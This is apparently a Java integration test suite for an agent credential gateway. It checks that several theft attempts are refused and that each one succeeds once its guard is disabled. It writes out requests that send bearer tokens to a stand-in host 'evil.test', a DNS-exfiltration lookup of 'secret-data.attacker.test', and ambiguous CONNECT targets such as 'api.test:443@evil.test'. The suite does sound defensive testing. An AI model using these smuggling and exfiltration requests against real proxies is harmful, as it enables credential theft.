package io.keymantle.gateway;

import static org.assertj.core.api.Assertions.assertThat;

import io.keymantle.domain.Destination;
import io.keymantle.domain.EgressPolicy;
import io.keymantle.domain.NetworkBinding;
import io.keymantle.domain.Scheme;
import java.net.InetAddress;
import java.util.List;
import java.util.Queue;
import java.util.Set;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Choosing the credential by what is verified (docs/design.md §5): each theft is tried, and tried
/// again with the one guard against it taken away, where it succeeds.
final class DestinationIT {
  private static final String EVIL = "evil.test";

  private GatewayFixture gateway;
  private TestUpstream api;
  private TestUpstream evil;
  private String agent;
  private String token;

  @BeforeEach
  void open() throws Exception {
    gateway = new GatewayFixture();
    api = gateway.upstream(GatewayFixture.HOST, TestUpstream.answering("hello"));
    evil = gateway.upstream(EVIL, TestUpstream.answering("thanks"));
    agent =
        gateway.broker.agent(
            "main",
            new EgressPolicy(
                EgressPolicy.Mode.ALLOW_LISTED,
                Set.of(
                    new Destination(Scheme.HTTPS, EVIL, evil.port()),
                    new Destination(Scheme.HTTP, EVIL, evil.port())),
                Set.of()));
    token = grant(GatewayFixture.binding(GatewayFixture.HOST, api.port()));
  }

  @AfterEach
  void close() throws Exception {
    gateway.close();
  }

  private String grant(NetworkBinding binding) {
    return gateway.broker.grant(agent, "github-api", GatewayFixture.VALUE, binding);
  }

  private String request(String host) {
    return "GET /a HTTP/1.1\r\nHost: " + host + "\r\nAuthorization: Bearer " + token + "\r\n\r\n";
  }

  private void assertNothingStolen(Wire.Message reply, String code) {
    assertThat(reply.head() + reply.text()).contains("\"" + code + "\"");
    assertThat(gateway.broker.refusals()).contains(code);
    assertNoSecretLeft();
  }

  private void assertNoSecretLeft() {
    assertThat(evil.received()).doesNotContain(GatewayFixture.VALUE).doesNotContain("kmt_");
    assertThat(gateway.broker.redemptions).isEmpty();
  }

  @Test
  void connectToEvil_withBoundHostHeader_isRefused() throws Exception {
    gateway.start();
    TestClient client = gateway.tunnel(agent, EVIL, evil.port());
    assertNothingStolen(
        client.ask(request(GatewayFixture.HOST + ":" + api.port())), "destination_mismatch");
  }

  @Test
  void connectToEvil_withBoundHostHeader_stealsOnceTheHostGuardIsGone() throws Exception {
    gateway.without(Guard.HOST);
    TestClient client = gateway.tunnel(agent, EVIL, evil.port());
    client.ask(request(GatewayFixture.HOST + ":" + api.port()));
    assertThat(evil.received()).contains(GatewayFixture.VALUE);
  }

  @Test
  void keepAliveConnection_switchingHost_isRefused() throws Exception {
    gateway.start();
    TestClient client = gateway.tunnel(agent, EVIL, evil.port());
    assertThat(
            client.ask("GET / HTTP/1.1\r\nHost: " + EVIL + ":" + evil.port() + "\r\n\r\n").status())
        .isEqualTo(200);
    assertNothingStolen(
        client.ask(request(GatewayFixture.HOST + ":" + api.port())), "destination_mismatch");
  }

  @Test
  void absoluteFormInTunnel_naming_anotherHost_isRefused() throws Exception {
    gateway.start();
    TestClient client = gateway.tunnel(agent, EVIL, evil.port());
    assertNothingStolen(
        client.ask(
            "GET https://"
                + GatewayFixture.HOST
                + ":"
                + api.port()
                + "/a HTTP/1.1\r\nHost: "
                + EVIL
                + ":"
                + evil.port()
                + "\r\nAuthorization: Bearer "
                + token
                + "\r\n\r\n"),
        "destination_mismatch");
  }

  @Test
  void absoluteFormInTunnel_namingTheDestination_isForwardedInOriginForm() throws Exception {
    gateway.start();
    TestClient client = gateway.tunnel(agent, GatewayFixture.HOST, api.port());
    String authority = GatewayFixture.HOST + ":" + api.port();
    assertThat(
            client
                .ask("GET https://" + authority + "/a HTTP/1.1\r\nHost: " + authority + "\r\n\r\n")
                .status())
        .isEqualTo(200);
    assertThat(api.heads().getFirst()).startsWith("GET /a HTTP/1.1\r\n");
  }

  @Test
  void serverName_differingFromConnectHost_isRefused() throws Exception {
    gateway.start();
    assertNothingStolen(tlsAs(EVIL), "destination_mismatch");
    assertThat(api.connections()).isZero();
  }

  @Test
  void serverName_missing_isRefused() throws Exception {
    gateway.start();
    assertNothingStolen(tlsAs(""), "destination_mismatch");
  }

  @Test
  void serverName_differing_passesOnceItsGuardIsGone() throws Exception {
    gateway.without(Guard.SERVER_NAME);
    assertThat(tlsAs(EVIL).status()).isEqualTo(200);
    assertThat(api.received()).contains(GatewayFixture.VALUE);
  }

  private Wire.Message tlsAs(String serverName) throws Exception {
    TestClient client = gateway.client();
    client.connect(agent, GatewayFixture.HOST + ":" + api.port());
    client.tls(gateway.local.client(), serverName);
    return client.ask(request(GatewayFixture.HOST + ":" + api.port()));
  }

  @Test
  void addressDialled_withBoundHostHeader_isRefused() throws Exception {
    agent = gateway.broker.agent("open", openEgress());
    gateway.start();
    TestClient client = gateway.client();
    client.connect(agent, "127.0.0.1:" + evil.port());
    client.tls(gateway.local.client(), "");
    Wire.Message reply = client.ask(request(GatewayFixture.HOST + ":" + api.port()));
    assertThat(reply.text()).contains("destination_mismatch");
    assertThat(evil.connections()).isZero();
  }

  private static EgressPolicy openEgress() {
    return new EgressPolicy(EgressPolicy.Mode.OPEN, Set.of(), Set.of());
  }

  @Test
  void plainRequest_forABoundTlsHost_isRefused() throws Exception {
    gateway.start();
    assertNothingStolen(
        gateway.client().ask(plain(GatewayFixture.HOST, api.port(), "")), "plain_not_allowed");
    assertThat(api.connections()).isZero();
  }

  private String plain(String host, int port, String hostHeader) {
    String authority = host + ":" + port;
    return "GET http://"
        + authority
        + "/a HTTP/1.1\r\nHost: "
        + (hostHeader.isEmpty() ? authority : hostHeader)
        + "\r\nProxy-Authorization: Bearer "
        + agent
        + "\r\nAuthorization: Bearer "
        + token
        + "\r\n\r\n";
  }

  @Test
  void plainRequest_withBoundHostHeaderToEvil_isRefused() throws Exception {
    TestUpstream bound = gateway.plainUpstream("plain.test", TestUpstream.answering("hello"));
    TestUpstream listener = gateway.plainUpstream(EVIL, TestUpstream.answering("thanks"));
    evil = listener;
    agent =
        gateway.broker.agent(
            "plain",
            new EgressPolicy(
                EgressPolicy.Mode.ALLOW_LISTED,
                Set.of(new Destination(Scheme.HTTP, EVIL, listener.port())),
                Set.of()));
    token = grant(GatewayFixture.plainBinding("plain.test", bound.port()));
    gateway.start();
    assertNothingStolen(
        gateway.client().ask(plain(EVIL, listener.port(), "plain.test:" + bound.port())),
        "destination_mismatch");
  }

  @Test
  void plainRequest_toAHostNoBindingNames_goesOnceThePlainGuardIsGone() throws Exception {
    TestUpstream other = gateway.plainUpstream("other.test", TestUpstream.answering("hello"));
    token = "none";
    gateway.start();
    assertThat(gateway.client().ask(plain("other.test", other.port(), "")).text())
        .contains("plain_not_allowed");
    assertThat(other.connections()).isZero();
    gateway.close();

    GatewayFixture open = new GatewayFixture();
    TestUpstream reached = open.plainUpstream("other.test", TestUpstream.answering("hello"));
    agent = open.broker.agent("main");
    open.without(Guard.PLAIN);
    assertThat(open.client().ask(plain("other.test", reached.port(), "")).text())
        .isEqualTo("hello");
    open.close();
    gateway = new GatewayFixture();
  }

  @Test
  void plainRequest_toABoundPlainDestination_carriesTheValue() throws Exception {
    TestUpstream bound = gateway.plainUpstream("plain.test", TestUpstream.answering("hello"));
    token = grant(GatewayFixture.plainBinding("plain.test", bound.port()));
    gateway.start();
    assertThat(gateway.client().ask(plain("plain.test", bound.port(), "")).text())
        .isEqualTo("hello");
    assertThat(bound.received()).contains(GatewayFixture.VALUE).doesNotContain("Proxy-");
    assertThat(bound.heads().getFirst()).startsWith("GET /a HTTP/1.1\r\n");
  }

  @ParameterizedTest
  @ValueSource(strings = {"API.TEST", "api.test.", "Api.Test."})
  void hostSpelling_ofTheSameHost_isTheSameDestination(String spelling) throws Exception {
    gateway.start();
    TestClient client = gateway.client();
    assertThat(client.connect(agent, spelling + ":" + api.port()).status()).isEqualTo(200);
    client.tls(gateway.local.client(), GatewayFixture.HOST);
    assertThat(client.ask(request(spelling + ":" + api.port())).status()).isEqualTo(200);
    assertThat(api.heads().getFirst()).contains("Host: api.test:" + api.port() + "\r\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "api.test:443@evil.test",
        "api.test%00.evil.test:443",
        "0x7f.1:443",
        "2130706433:443",
        "127.1:443",
        "api..test:443",
        "[::1%25lo]:443",
        "[::ffff:127.0.0.1]:443",
        "api.test",
        "api.test:0",
        "api.test:443:443",
        "\u00e4pi.test:443"
      })
  void connectTarget_thatParsersReadDifferently_is400(String target) throws Exception {
    gateway.start();
    Wire.Message reply =
        gateway
            .client()
            .ask("CONNECT " + target + " HTTP/1.1\r\nHost: x\r\n" + authorization() + "\r\n");
    assertThat(reply.status()).isEqualTo(400);
    assertThat(reply.text()).contains("ambiguous_request");
  }

  private String authorization() {
    return "Proxy-Authorization: Bearer " + agent + "\r\n";
  }

  @Test
  void anotherPort_ofABoundHost_isAnotherDestination() throws Exception {
    gateway.start();
    Wire.Message reply = gateway.client().connect(agent, GatewayFixture.HOST + ":" + evil.port());
    assertThat(reply.status()).isEqualTo(403);
  }

  @Test
  void refusedHost_isNotLookedUp() throws Exception {
    Queue<String> asked = new ConcurrentLinkedQueue<>();
    gateway.start(configuration -> configuration.withResolver(host -> looked(asked, host)));
    assertThat(gateway.client().connect(agent, "secret-data.attacker.test:443").status())
        .isEqualTo(403);
    assertThat(gateway.broker.refusals()).contains("destination_not_allowed");
    assertThat(asked).isEmpty();
  }

  @Test
  void refusedHost_isLookedUpOnceItsGuardIsGone() throws Exception {
    Queue<String> asked = new ConcurrentLinkedQueue<>();
    gateway.start(configuration ->
        configuration
            .withResolver(host -> looked(asked, host))
            .withProtection(GatewayConfiguration.Protection.without(Guard.LOOKUP)));
    gateway.client().connect(agent, "secret-data.attacker.test:443");
    Waiting.until(() -> asked.contains("secret-data.attacker.test"));
  }

  private static List<InetAddress> looked(Queue<String> asked, String host) {
    asked.add(host);
    return List.of(InetAddress.getLoopbackAddress());
  }

  @Test
  void nameResolvingToLoopback_isRefusedUnlessABindingNamesTheRange() throws Exception {
    NetworkBinding rebound = GatewayFixture.binding("rebound.test", api.port());
    grant(rebound);
    gateway.start(configuration ->
        configuration.withResolver(host -> List.of(InetAddress.getLoopbackAddress())));
    Wire.Message reply = ask("rebound.test", api.port());
    assertThat(reply.text()).contains("address_not_allowed");
    assertThat(api.connections()).isZero();
  }

  @Test
  void nameResolvingToLoopback_isReachedOnceTheAddressGuardIsGone() throws Exception {
    TestUpstream rebound =
        TestUpstream.tls(gateway.outside.server("rebound.test"), TestUpstream.answering("inside"));
    grant(GatewayFixture.binding("rebound.test", rebound.port()));
    gateway.start(configuration ->
        configuration
            .withResolver(host -> List.of(InetAddress.getLoopbackAddress()))
            .withProtection(GatewayConfiguration.Protection.without(Guard.ADDRESS)));
    assertThat(ask("rebound.test", rebound.port()).text()).isEqualTo("inside");
    rebound.close();
  }

  @Test
  void nameResolvingToLoopback_isReachedWhenABindingNamesTheRange() throws Exception {
    TestUpstream inside =
        TestUpstream.tls(gateway.outside.server("inside.test"), TestUpstream.answering("inside"));
    NetworkBinding plain = GatewayFixture.binding("inside.test", inside.port());
    grant(
        new NetworkBinding(
            plain.destination(),
            Set.of(),
            List.of(),
            plain.surface(),
            plain.injection(),
            1,
            List.of("127.0.0.0/8"),
            List.of()));
    gateway.start(configuration ->
        configuration.withResolver(host -> List.of(InetAddress.getLoopbackAddress())));
    assertThat(ask("inside.test", inside.port()).text()).isEqualTo("inside");
    inside.close();
  }

  private Wire.Message ask(String host, int port) throws Exception {
    return gateway
        .tunnel(agent, host, port)
        .ask("GET / HTTP/1.1\r\nHost: " + host + ":" + port + "\r\n\r\n");
  }

  @ParameterizedTest
  @ValueSource(strings = {"another name", "another authority"})
  void upstreamWithWrongCertificate_getsNoByteOfTheRequest(String wrong) throws Exception {
    TestUpstream impostor = impostor(wrong);
    token = grant(GatewayFixture.binding("victim.test", impostor.port()));
    gateway.start();
    Wire.Message reply =
        gateway
            .tunnel(agent, "victim.test", impostor.port())
            .ask(request("victim.test:" + impostor.port()));
    assertThat(reply.status()).isEqualTo(502);
    assertThat(reply.text()).contains("upstream_untrusted");
    assertThat(impostor.received()).doesNotContain("GET").doesNotContain(GatewayFixture.VALUE);
    assertThat(gateway.broker.outcomes).allMatch(outcome -> !outcome.result().equals("ok"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"another name", "another authority"})
  void upstreamWithWrongCertificate_getsTheValueOnceThePeerGuardIsGone(String wrong)
      throws Exception {
    TestUpstream impostor = impostor(wrong);
    token = grant(GatewayFixture.binding("victim.test", impostor.port()));
    gateway.without(Guard.PEER);
    gateway
        .tunnel(agent, "victim.test", impostor.port())
        .ask(request("victim.test:" + impostor.port()));
    assertThat(impostor.received()).contains(GatewayFixture.VALUE);
  }

  private TestUpstream impostor(String wrong) throws Exception {
    boolean name = wrong.equals("another name");
    TestAuthority signer = name ? gateway.outside : new TestAuthority("foreign authority");
    return gateway.place(
        "victim.test",
        TestUpstream.tls(
            signer.server(name ? EVIL : "victim.test"), TestUpstream.answering("thanks")));
  }

  @Test
  void redirect_elsewhere_isPassedOnAndNotFollowed() throws Exception {
    TestUpstream redirecting =
        gateway.upstream(
            "moved.test",
            TestUpstream.replying(
                "HTTP/1.1 302 Found\r\nLocation: https://evil.test:"
                    + evil.port()
                    + "/\r\nContent-Length: 0\r\n\r\n"));
    token = grant(GatewayFixture.binding("moved.test", redirecting.port()));
    gateway.start();
    Wire.Message reply =
        gateway
            .tunnel(agent, "moved.test", redirecting.port())
            .ask(request("moved.test:" + redirecting.port()));
    assertThat(reply.status()).isEqualTo(302);
    assertThat(evil.connections()).isZero();
  }

  @Test
  void token_ofAnotherDestination_isRefusedAndNotForwarded() throws Exception {
    gateway.start();
    Wire.Message reply =
        gateway.tunnel(agent, EVIL, evil.port()).ask(request(EVIL + ":" + evil.port()));
    assertNothingStolen(reply, "destination_mismatch");
  }

  @Test
  void tokenOfAnotherAgent_isRefused() throws Exception {
    String mallory = gateway.broker.agent("mallory", openEgress());
    gateway.start();
    Wire.Message reply =
        gateway
            .tunnel(mallory, GatewayFixture.HOST, api.port())
            .ask(request(GatewayFixture.HOST + ":" + api.port()));
    assertNothingStolen(reply, "token_of_other_agent");
  }

  @Test
  void plainTextInATunnel_toATlsDestination_isRefused() throws Exception {
    gateway.start();
    TestClient client = gateway.client();
    client.connect(agent, GatewayFixture.HOST + ":" + api.port());
    assertNothingStolen(
        client.ask(request(GatewayFixture.HOST + ":" + api.port())), "plain_not_allowed");
    assertThat(api.connections()).isZero();
  }

  @Test
  void connectInsideTunnel_isRefused() throws Exception {
    gateway.start();
    String authority = GatewayFixture.HOST + ":" + api.port();
    Wire.Message reply =
        gateway
            .tunnel(agent, GatewayFixture.HOST, api.port())
            .ask("CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n\r\n");
    assertThat(reply.text()).contains("method_not_allowed");
    assertThat(api.received()).isEmpty();
  }
}
